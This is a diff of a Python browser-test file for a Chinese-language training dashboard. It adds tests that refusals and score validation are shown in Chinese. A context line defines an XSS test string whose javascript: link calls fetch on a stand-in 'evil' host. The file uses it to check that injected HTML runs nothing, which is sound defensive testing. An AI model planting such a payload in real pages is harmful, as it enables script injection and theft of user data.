@@ -41,7 +41,7 @@ XSS_OFFSITE = "白色L没货，黑色有 <a href=\"javascript:fetch('http://evil
 NEAR_MISS = "白色L码卖光啦，黑的L码有现货，可以吗"  # right, in words the rubric does not list
 # pages/team.mjs asks /api/me before anyone signs in; the other team's mentor is refused (404)
 EXPECTED = re.compile(r"console error: Failed to load resource: the server responded with a status "
-                      r"of (401 \(Unauthorized\)|404 \(Not Found\))")
+                      r"of (401 \(Unauthorized\)|403 \(Forbidden\)|404 \(Not Found\)|422 \(Unprocessable (Content|Entity)\))")
 
 
 class Team:
@@ -94,7 +94,7 @@ def team(tmp_path_factory):
     with store.write() as conn:
         conn.execute(learners.insert(), [dict(id=i, name=n, team=tm, cohort="2026-10批", role=r, mentor_id=m,
                                               updated_at=now) for i, n, tm, r, m in people])
-        invites = auth.issue_invites(conn, ["S1", "M1", "M2", "KF1", HOSTILE_ID], "S1")
+        invites = auth.issue_invites(conn, ["S1", "M1", "M2", "KF1", "KF3", HOSTILE_ID], "S1")
     codes = {invite.learner_id: invite.code for invite in invites}
     app = create_app(TeamContext(store=store, catalog=catalog, root=root, site_dir=root / ".cstrain/team-site"))
     with serving(app, sock):
@@ -261,6 +261,46 @@ def test_a_mentor_of_another_team_gets_nothing(browser, team):
         page.locator(".cstrain-dash-learner .admonition.failure").wait_for()
         assert page.locator(".cstrain-dash-drill, .cstrain-dash-drills").count() == 0
         assert "王小美" not in page.locator("#cstrain-dashboard").inner_text()
+
+
+def wait_for_text(locator, text: str) -> None:
+    for _ in range(100):  # not wait_for_function: the CSP forbids its string evaluation
+        if text in locator.inner_text():
+            return
+        locator.page.wait_for_timeout(100)
+    assert text in locator.inner_text()
+
+
+def test_refusals_are_said_in_chinese(browser, team):
+    own = send_attempt(team, "S1", [{"text": "亲，在的～请问您想要什么颜色、穿几码呢？", "at": 9}])
+    mentee = send_attempt(team, "KF3", [{"text": "亲，在的～请问您想要什么颜色、穿几码呢？", "at": 11}])
+    with watched(browser, DESK, EXPECTED) as page:
+        sign_in(page, team, "S1")
+        # a supervisor's own practice: nobody re-scores their own attempt (403)
+        open_mentee(page, team, "S1")
+        form = page.locator(f".cstrain-dash-drill[data-attempt='{own['attempt_id']}'] form")
+        page.locator(f".cstrain-dash-drill[data-attempt='{own['attempt_id']}'] summary").click()
+        form.get_by_label("复核意见（必填）").fill("自己给自己改分")
+        form.get_by_role("button", name="保存复核").click()
+        message = form.locator(".cstrain-dash-message")
+        wait_for_text(message, "你没有权限")
+        assert message.inner_text() == "操作没有成功：你没有权限复核这条记录（自己的练习要请带教复核）。"
+        # a comment the server refuses (a control character) is a 422, said in words
+        open_mentee(page, team, "KF3")
+        attempt = page.locator(f".cstrain-dash-drill[data-attempt='{mentee['attempt_id']}']")
+        attempt.locator("summary").click()
+        form = attempt.locator("form")
+        form.get_by_label("复核意见（必填）").fill("响铃\u0007字符")
+        form.get_by_role("button", name="保存复核").click()
+        message = form.locator(".cstrain-dash-message")
+        wait_for_text(message, "不符合要求")
+        assert message.inner_text() == "操作没有成功：复核内容不符合要求：分数要在范围内，复核意见不能为空。"
+        # the parts are checked in the browser before anything is sent
+        form.get_by_label("复核意见（必填）").fill("速度给满")
+        form.get_by_label("速度分（满分 20）").fill("25")
+        form.get_by_role("button", name="保存复核").click()
+        assert message.inner_text() == "速度分要在 0 到 20 之间。"
+        assert page.evaluate("document.activeElement.name") == "speed"
 
 
 def test_html_in_a_reply_a_name_or_an_id_is_text_and_runs_nothing(browser, team):
